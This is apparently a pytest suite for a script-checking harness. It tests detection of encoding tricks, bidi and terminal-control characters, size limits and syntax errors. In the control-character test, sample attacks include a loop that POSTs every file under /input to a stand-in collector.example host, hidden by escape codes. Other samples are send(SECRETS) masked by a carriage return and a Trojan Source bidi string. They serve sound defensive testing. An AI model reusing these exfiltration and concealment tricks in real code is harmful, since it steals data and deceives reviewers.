"""Decoding, size limits and syntax: the checkers and the interpreter read the same code."""

from __future__ import annotations

import pytest

from harness.checks import POLICIES, gate, run_checks
from harness.checks.syntax import Limits, parse


def codes(source: str | bytes, policy: str = "strict") -> set[str]:
    return {f.code for f in run_checks(source, policy).findings if f.severity == "error"}


def test_bytes_are_decoded_exactly_as_python_does() -> None:
    assert codes("x = 'caf\u00e9'\n".encode()) == set()
    assert codes(b"\xef\xbb\xbfx = 1\n") == set()  # a UTF-8 BOM is fine
    assert codes(b"# -*- coding: utf-8 -*-\nx = 1\n") == set()
    assert codes(b"# vim: set fileencoding=ascii :\nx = 1\n") == set()
    assert "HS006" in codes(b"# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0ACA-os\n")
    assert "HS006" in codes(b"#!/usr/bin/env python3\n# coding: latin-1\nx = '\xe9'\n")  # second line counts
    assert "HS006" in codes(b"# coding: no-such-codec\nx = 1\n")
    assert "HS006" in codes(b"\xef\xbb\xbf# coding: latin-1\nx = 1\n")  # BOM and cookie disagree
    assert "HS008" in codes(b"x = '\xff\xfe'\n")


def test_a_coding_cookie_in_text_is_flagged_too() -> None:
    # Written to a file and run, the interpreter would honour it; the checks read the str as given.
    assert "HS006" in codes("# coding: rot13\nprint('x')\n")
    assert codes("# coding: utf-8\nprint('x')\n") == set()
    assert codes("x = 1\n# coding: latin-1\n") == set()  # only the first two lines count


def test_decoding_problems_stop_the_other_checkers() -> None:
    report = run_checks(b"# coding: utf-7\nx = 1\n")
    assert report.checkers_run == ("syntax",) and not report.passed


def test_nul_bytes_and_bidi_controls() -> None:
    report = run_checks("x = 1\x00\n")
    assert {f.code for f in report.findings} == {"HS009"} and report.findings[0].line == 1
    trojan = "ok = 'user'\nif ok != 'none\u202e \u2066# admin\u2069 \u2066':\n    pass\n"
    finding = next(f for f in run_checks(trojan).findings if f.code == "HS010")
    assert finding.line == 2 and "U+202E" in finding.message
    assert codes("name = '\u05e9\u05dc\u05d5\u05dd'\n") == set()  # right-to-left text itself is fine


@pytest.mark.parametrize("policy", ["strict", "standard"])
def test_terminal_control_characters_are_refused(policy: str) -> None:
    # The review-forging attack: the real line POSTs the inputs; ESC[2K ESC[1G in its comment
    # erases it on a terminal and prints a harmless line in its place.
    attack = (
        "import harness_runtime as hr\n"
        "from pathlib import Path\n"
        "for p in Path('/input').rglob('*'): hr.fetch('https://collector.example/', method='POST', "
        "data=p.read_bytes())  # \x1b[2K\x1b[1Gprint('summarising the inputs')\n"
    )
    report = run_checks(attack, policy)
    finding = next(f for f in report.findings if f.code == "HS012")
    assert (finding.line, finding.col, finding.severity) == (3, attack.splitlines()[2].index("\x1b"), "error")
    assert "U+001B" in finding.message and "1 more" in finding.message and finding.hint
    assert not gate(report, policy).passed
    for char in ("\x9b", "\x07", "\x08", "\x7f", "\x0b", "\x1f", "\x85"):
        assert "HS012" in codes(f"x = 1  # {char}\n", policy), repr(char)
    # Tab, newline, CRLF and form feed are ordinary.
    assert codes("x = 1\r\n\x0cy = 2\r\nz = 3  # \tok\n", policy) == set()


@pytest.mark.parametrize("policy", ["strict", "standard"])
def test_a_lone_carriage_return_is_refused(policy: str) -> None:
    # Python breaks the line at the CR and runs send(); `cat` prints "# harmless" over it.
    report = run_checks("x = 1\nsend(SECRETS)\r# harmless\ny = 2\n", policy)
    finding = next(f for f in report.findings if f.code == "HS013")
    assert (finding.line, finding.col, finding.severity) == (2, len("send(SECRETS)"), "error")
    assert not gate(report, policy).passed


def test_syntax_errors_are_located() -> None:
    finding = next(f for f in run_checks("x = 1\ndef f(:\n    pass\n").findings if f.code == "HS001")
    assert finding.line == 2 and finding.severity == "error" and finding.hint


def test_size_limits_come_from_the_policy() -> None:
    assert "HS002" in codes("x = 1\n" * 200_000)
    assert "HS003" in codes("x = 1\n" * 10_001)
    long_line = "x = '" + "a" * 2_500 + "'\n"
    assert "HS004" in codes(long_line, "strict")
    assert "HS004" not in codes(long_line, "standard")  # reviewed scaffolds may carry longer data lines
    tight = POLICIES["strict"].model_copy(update={"max_nodes": 10})
    assert "HS007" in {f.code for f in run_checks("a = [1, 2, 3, 4, 5, 6, 7, 8]\n", tight).findings}


def test_nesting_limits() -> None:
    assert "HS005" in codes("x = " + "-" * 250 + "1\n")  # parses, but deeper than the limit
    assert codes("(" * 300 + ")" * 300) & {"HS001", "HS005"}  # the parser's own limit
    assert "HS005" in codes("x = " + "-" * 100_000 + "1\n")  # the parser runs out of memory or stack
    assert "HS005" in codes("a = 1\nb = a" + " + a" * 5_000 + "\n")
    elifs = "x = 1\nif x == 0:\n    pass\n" + "".join(f"elif x == {i}:\n    pass\n" for i in range(1, 80))
    assert codes(elifs) == set()  # a long elif chain is ordinary code


@pytest.mark.parametrize("source", ["", "\n", "# just a comment\n", "\ufeff"])
def test_empty_scripts_are_fine(source: str) -> None:
    report = run_checks(source)
    assert report.passed and not report.errors()


def test_parse_reports_size_and_depth() -> None:
    parsed = parse("def f():\n    return [1, 2]\n", Limits())
    assert parsed.tree is not None and parsed.nodes > 5 and parsed.depth >= 4
    assert parse(b"\x00", Limits()).tree is None
    assert parse(12, Limits()).findings[0].code == "HS001"  # type: ignore[arg-type]
    assert parse(bytearray(b"x = 1\n"), Limits()).tree is not None
